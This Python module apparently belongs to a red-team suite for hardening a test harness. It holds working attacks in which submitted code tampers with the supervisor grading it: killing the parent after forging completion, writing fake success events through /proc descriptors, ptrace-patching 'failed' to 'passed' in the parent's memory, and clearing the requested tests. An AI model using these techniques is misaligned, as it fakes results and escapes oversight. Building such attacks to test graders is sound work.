"""Attacks from the test process on the process that watches it, and on the request that it was given."""

from __future__ import annotations

from taskgen.attacks.adapt import add_code, with_bodies
from taskgen.attacks.attack import Group, Submission, Target
from taskgen.attacks.payloads import forger

GROUP = Group("in_process")


def _forging(target: Target, prelude: str, *body: str) -> Submission:
    """Bodies and a prelude that may use ``_forge`` and ``_events``."""
    return Submission(items=with_bodies(target, body or ["return None"], forger(target) + prelude))


@GROUP.attack(103)
def parent_killed(target: Target) -> Submission | None:
    """a supervisor that is dead reports no failure; what was written before may count"""
    return _forging(
        target,
        """

def _orphan():
    import os
    import signal

    _forge(done=True)
    for number in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(os.getppid(), number)
        except OSError:
            pass
""",
        "_orphan()",
        "return None",
    )


@GROUP.attack(104)
def supervisor_descriptors(target: Target) -> Submission | None:
    """what the supervisor has open can be opened again through /proc, and written to in its place"""
    return _forging(
        target,
        """

def _upstairs():
    import glob
    import os

    events = _events()
    events += b'{"e": "done", "status": "ended", "running": null, "code": 0, "seconds": 1.0, "cpu_s": 1.0, '
    events += b'"output": "", "output_bytes": 0}\\n'
    for path in glob.glob("/proc/[0-9]*/fd/*"):
        if path.startswith("/proc/%d/" % os.getpid()):
            continue
        try:
            descriptor = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            os.write(descriptor, events)
            os.close(descriptor)
        except OSError:
            continue
""",
        "_upstairs()",
        "return None",
    )


add_code(
    GROUP,
    105,
    "supervisor-traced",
    "a process of the same user may be traced and its memory written: 'failed' becomes 'passed' in the supervisor's",
    """
def _trace(done=[]):
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    parent = os.getppid()
    if parent < 2 or done or libc.ptrace(16, parent, 0, 0):  # PTRACE_ATTACH
        return
    done.append(parent)
    try:
        os.waitpid(parent, 0x40000000)  # __WALL: until it stands still
        with open("/proc/%d/maps" % parent) as maps:
            spans = [line.split()[0].split("-") for line in maps if " rw-p " in line]
        with open("/proc/%d/mem" % parent, "r+b", buffering=0) as memory:
            for first, last in spans:
                start, size = int(first, 16), int(last, 16) - int(first, 16)
                if size > 64 << 20:
                    continue
                memory.seek(start)
                data = memory.read(size)
                place = data.find(b"failed")
                while place >= 0:
                    memory.seek(start + place)
                    memory.write(b"passed")
                    place = data.find(b"failed", place + 6)
    except (OSError, ValueError, OverflowError):
        pass
    libc.ptrace(17, parent, 0, 0)  # PTRACE_DETACH
""",
    "_trace()",
    "return None",
)


@GROUP.attack(139)
def request_read_and_answered(target: Target) -> Submission | None:
    """the runner's modules hold the request: which tests are wanted, and where the results go"""
    prelude = (
        forger(target)
        + """

def _answer():
    import os
    import sys

    for name in ("child", "serve", "__main__"):
        for value in list(vars(sys.modules.get(name, sys)).values()):
            request = getattr(value, "request", None)
            if isinstance(request, dict) and isinstance(request.get("select"), list):
                request["select"].clear()
    frame = sys._getframe()
    while frame is not None:
        descriptor = frame.f_locals.get("events_fd")
        if isinstance(descriptor, int):
            os.write(descriptor, _events())
            os._exit(0)
        frame = frame.f_back
"""
    )
    return Submission(items=with_bodies(target, ["_answer()", "return None"], prelude))
